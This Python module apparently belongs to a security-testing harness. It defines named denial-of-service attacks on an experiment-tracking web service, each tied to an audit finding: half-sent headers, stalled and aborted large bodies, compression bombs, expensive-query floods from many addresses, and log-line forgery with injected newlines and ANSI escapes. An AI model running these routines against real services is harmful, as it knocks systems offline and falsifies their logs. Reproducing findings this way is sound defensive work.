"""The attacks of the security findings by name: what each sends, and which experiments it needs."""

from __future__ import annotations

import gzip
import socket
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import partial
from urllib.parse import quote

from attacking import floods
from attacking.crowd import Crowd, Tally
from attacking.target import ADDRESSES, Target, http_request

MIB = 1024 * 1024
SECONDS_MAX = 60.0
"""Seconds that an attack's requests may take before the attacker hangs up."""

ABORT_SECONDS_MAX = 180.0
"""Seconds after which no more requests are sent that are broken off."""

_PROTOBUF = "application/x-protobuf"
_HYPERPARAMETERS = "data/plugin/hparams/session_groups"
_ALL_SESSIONS = (
    b'{"allowedStatuses": [0, 1, 2, 3], "colParams": [], "sliceSize": 1000000,'
    b' "includeMetrics": false}'
)
_EXTREMES = "scalars/data?sampling=extremes&downsample=100"
_COMPARED = 10
FORGED = "forged-by-a-stranger"


@dataclass(frozen=True)
class Attack:
    """One attack: its finding, what it does in words, its code, and the experiments it reads.

    `open_files_max` is the worker's limit of open files, 0 for the system's own. A flood does not
    end by itself, and needs no caller of each sort.
    """

    finding: str
    what: str
    run: Callable[[Target, Tally], None]
    experiments: tuple[str, ...] = ()
    open_files_max: int = 0
    is_flood: bool = False


def _abort(target: Target, tally: Tally, request: bytes, count: int) -> None:
    """Send a body without its last bytes and hang up, one connection after the other.

    The next one does not wait for the server: with one at a time there, little of what it keeps is
    seen.
    """
    end = time.monotonic() + ABORT_SECONDS_MAX
    for each in target.repeated(request, count):
        if time.monotonic() > end and not target.is_endless:
            return
        with socket.socket() as client:
            client.settimeout(10)
            client.bind((ADDRESSES[0], 0))
            try:
                client.connect((target.host, target.port))
                client.sendall(each)
                outcome = "aborted"
            except OSError:
                outcome = "cut off"
        tally.add(outcome)
        if target.is_endless:
            time.sleep(0.02)  # at most 50 MB/s: copying them must not be what slows the victim


def _json_body(target: Target) -> bytes:
    path = f"/api/v1/experiments/{target.experiments['small']}/scalars/data"
    return target.ask("POST", path, b"a" * (MIB - 10), 10)


def _batch(target: Target, body: bytes, missing_bytes: int = 0, encoding: str = "") -> bytes:
    path = f"/api/v1/experiments/{target.experiments['small']}/batches"
    return http_request(
        "POST",
        path,
        token=target.append_token,
        body=body,
        missing_bytes=missing_bytes,
        content_type=_PROTOBUF,
        encoding=encoding,
    )


def _abort_json(target: Target, tally: Tally) -> None:
    _abort(target, tally, _json_body(target), 10_000)


def _abort_batches(target: Target, tally: Tally) -> None:
    _abort(target, tally, _batch(target, b"\0" * (16 * MIB - 10), 10), 120)


def _ask(
    target: Target, tally: Tally, requests: Iterable[bytes], slots: int, **options: float
) -> None:
    """Keep requests under way until all are answered, or for SECONDS_MAX."""
    crowd = Crowd(target, tally, **options)  # type: ignore[arg-type]  # each option is passed on as it is
    try:
        crowd.keep(requests, slots, 1e9 if target.is_endless else SECONDS_MAX)
    finally:
        crowd.close()


def _hold(target: Target, tally: Tally, request: bytes, count: int, **options: float) -> None:
    """Hold that many connections open for the target's seconds."""
    crowd = Crowd(target, tally, **options)  # type: ignore[arg-type]  # the same
    try:
        crowd.keep(
            target.repeated(request, count),
            target.times(count),
            1e9 if target.is_endless else target.hold_seconds,
        )
    finally:
        crowd.close()


def _many(
    path: str, experiment: str, count: int, addresses: int = 1
) -> Callable[[Target, Tally], None]:
    """Return an attack that asks the same of the read API, so often at once, from so many
    addresses.
    """

    def run(target: Target, tally: Tally) -> None:
        requests = target.repeated(target.data(experiment, path), count)
        _ask(target, tally, requests, target.times(count), addresses=addresses)

    return run


def _many_pages(path: str, experiment: str, count: int) -> Callable[[Target, Tally], None]:
    """Return an attack that asks the same of the page, so often at once."""

    def run(target: Target, tally: Tally) -> None:
        _ask(
            target,
            tally,
            target.repeated(target.page(experiment, path), count),
            target.times(count),
        )

    return run


def _list_wide(target: Target, tally: Tally) -> None:
    paths = ("data/plugin/timeseries/tags", "data/plugin/scalars/tags")
    sessions = f"/experiment/{target.experiments['wide']}/{_HYPERPARAMETERS}"
    requests = [
        *(target.page("wide", path) for path in paths),
        target.ask("POST", sessions, _ALL_SESSIONS),
    ]
    _ask(target, tally, _cycle(target, requests), len(requests))


def _compare_wide(target: Target, tally: Tally) -> None:
    names = ",".join(f"n{number}:{target.experiments['wide']}" for number in range(_COMPARED))
    request = target.ask("GET", f"/compare/{quote(names, safe=':,')}/data/plugin/timeseries/tags")
    _ask(target, tally, _cycle(target, [request]), 1)


def _cycle(target: Target, requests: list[bytes]) -> Iterable[bytes]:
    while True:
        yield from requests
        if not target.is_endless:
            return


def _leave_unread(target: Target, tally: Tally) -> None:
    _hold(
        target,
        tally,
        target.data("answers", "scalars/data?downsample=5000"),
        100,
        is_reading=False,
        receive_buffer=4096,
    )


def _stall_json(target: Target, tally: Tally) -> None:
    _hold(target, tally, _json_body(target), 500)


def _stall_batches(target: Target, tally: Tally) -> None:
    _hold(target, tally, _batch(target, b"\0" * (16 * MIB - 10), 10), 60)


def _hostile_batches(target: Target, tally: Tally) -> None:
    body = gzip.compress(b"\x10\x01" * (8 * MIB - 8))  # 8 million fields of two bytes
    _ask(
        target,
        tally,
        target.repeated(_batch(target, body, encoding="gzip"), 150),
        target.times(150),
    )


def _hold_tails(target: Target, tally: Tally) -> None:
    _hold(target, tally, target.data("small", "scalars/tail"), 200)


def _sip_streams(target: Target, tally: Tally) -> None:
    request = target.data("points", "scalars/data?sampling=all&format=csv")
    _hold(target, tally, request, 8, is_reading=False, receive_buffer=4096, sip_seconds=10.0)


def _half_headers(target: Target, tally: Tally) -> None:
    _hold(target, tally, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ", 3_000)


def _half_headers_few_files(target: Target, tally: Tally) -> None:
    _hold(target, tally, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ", 2_300)


def _log_bodies(target: Target, tally: Tally) -> None:
    path = f"/experiment/{target.experiments['small']}/{_HYPERPARAMETERS}"
    _ask(target, tally, target.repeated(target.ask("POST", path, b"A" * 1_000_000), 10), 1)


def _forge_lines(target: Target, tally: Tally) -> None:
    line = f"x%0a2026-01-01 00:00:00,000 ERROR tbservice: {FORGED}%1b[31m".replace(" ", "%20")
    _ask(
        target,
        tally,
        target.repeated(target.page("small", f"{_HYPERPARAMETERS}?request={line}"), 10),
        1,
    )


ATTACKS: dict[str, Attack] = {
    "H1-json": Attack(
        "H1", "10,000 JSON bodies of 1 MiB broken off, one after the other", _abort_json, ("small",)
    ),
    "H1-batch": Attack("H1", "120 batches of 16 MiB broken off", _abort_batches, ("small",)),
    "H2": Attack(
        "H2",
        "8 x text/text of 6 kB of '['",
        _many_pages("data/plugin/text/text?run=train&tag=note", "text", 8),
        ("text",),
    ),
    "H4": Attack(
        "H4",
        "timeseries/tags, scalars/tags, session_groups of many runs and tags",
        _list_wide,
        ("wide",),
    ),
    "H4-compare": Attack("H4", "a comparison of 10 such experiments", _compare_wide, ("wide",)),
    "M1": Attack("M1", "100 answers of 15 MB that nobody reads, held", _leave_unread, ("answers",)),
    "M2-json": Attack("M2", "500 JSON bodies of 1 MiB stalled", _stall_json, ("small",)),
    "M2-batch": Attack("M2", "60 batches of 16 MiB stalled", _stall_batches, ("small",)),
    "M3": Attack("M3", "150 batches of 8 million fields, 16 kB each", _hostile_batches, ("small",)),
    "M4-extremes": Attack(
        "M4",
        "30 x sampling=extremes",
        _many(_EXTREMES, "points", 30),
        ("points",),
    ),
    "M4-addresses": Attack(
        "M4",
        "50 x sampling=extremes, each from an address of its own",
        _many(_EXTREMES, "points", len(ADDRESSES), len(ADDRESSES)),
        ("points",),
    ),
    "M4-digests": Attack("M4", "30 x digests", _many("digests", "points", 30), ("points",)),
    "M4-sample": Attack(
        "M4",
        "20 x downsample=12500",
        _many("scalars/data?downsample=12500", "points", 20),
        ("points",),
    ),
    "M5-tails": Attack("M5", "200 tails held", _hold_tails, ("small",)),
    "M5-streams": Attack(
        "M5", "8 readers that take 1 kB of a stream each 10 s", _sip_streams, ("points",)
    ),
    "M6": Attack("M6", "3,000 half-sent headers held", _half_headers),
    "M6-files": Attack(
        "M6", "2,300 of them, worker with 1,024 files", _half_headers_few_files, (), 1024
    ),
    "M8-bodies": Attack(
        "M8", "10 bodies of 1 MB that the page's handler refuses", _log_bodies, ("small",)
    ),
    "M8-lines": Attack("M8", "10 requests with a forged log line", _forge_lines, ("small",)),
    "M9": Attack(
        "M9",
        "8 x a graph of 55 MiB as text",
        _many_pages("data/plugin/graphs/graph?run=train", "graph", 8),
        ("graph",),
    ),
}


def _flood(
    finding: str, what: str, run: Callable[[Target, Tally], None], *experiments: str
) -> Attack:
    return Attack(finding, what, run, experiments, is_flood=True)


FLOODS: dict[str, Attack] = {
    "S1-churn": _flood("S1", "connections that are opened and reset", floods.churn),
    **{
        f"S2-health-{count}": _flood(
            "S2",
            f"{count:,} connections that ask /healthz",
            partial(floods.ask_health, count=count),
        )
        for count in (64, 1_000)
    },
    **{
        f"S2-refused-{count}": _flood(
            "S2", f"{count:,} connections that are refused", partial(floods.be_refused, count=count)
        )
        for count in (1_000, 3_800)
    },
    "S3-workspaces": _flood(
        "S3",
        "a reader in each of 100 workspaces of one person",
        floods.use_workspaces,
        "points",
    ),
    "S4-grpc": _flood("S4", "1,100 connections of gRPC without a call", floods.hold_grpc),
    "S7-subnets": _flood(
        "S7", "300 subnets of one IPv6 network that open the first page", floods.use_subnets
    ),
}
"""One address each, or one person, without a pause."""


def _burn(target: Target, _tally: Tally) -> None:
    end = time.monotonic() + (1e9 if target.is_endless else 10)
    while time.monotonic() < end:
        pass


CONTROLS: dict[str, Attack] = {
    "control-cpu": _flood(
        "", "a process that only counts, beside the service on the same cores", _burn
    ),
}
"""Load that is no attack: how much the machine itself slows the victim."""

KNOWN = ATTACKS | FLOODS | CONTROLS
